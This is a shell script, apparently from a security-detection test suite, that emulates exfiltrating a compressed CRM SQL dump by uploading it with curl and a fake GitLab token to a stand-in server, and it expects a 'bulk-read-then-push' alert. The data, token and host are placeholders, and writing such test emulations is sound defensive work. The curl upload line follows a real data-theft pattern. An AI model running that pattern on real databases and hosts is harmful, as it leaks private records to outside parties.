#!/bin/sh
# Emulates scenario curl-form-gitlab-upload (examples/scenarios/curl-form-gitlab-upload.yaml):
# A compressed SQL dump uploaded to a GitLab project with `curl -F file=@…` and a PRIVATE-TOKEN header.
#
# Safe version: a random "SQL dump", a fake token, and the in-namespace forge-api stand-in (nginx that
# accepts and discards uploads) instead of gitlab.com.
#
# Image: curlimages/curl:8.11.1
# Expected alert: bulk-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need curl gzip head
emu_check_target "$EMU_FORGE_URL"
work="$EMU_WORKDIR/curl-form-gitlab-upload"
rm -rf "$work"
emu_big_file "$work/backups/crm.sql" 76
gzip -c "$work/backups/crm.sql" >"$work/crm.sql.gz"
emu_retry 12 curl -fsS -o /dev/null --request POST --header "PRIVATE-TOKEN: glpat-FAKE-EXAMPLE-TOKEN" \
  --form "file=@$work/crm.sql.gz" "$EMU_FORGE_URL/api/v4/projects/48151623/uploads"
rm -rf "$work"
emu_expect bulk-read-then-push high
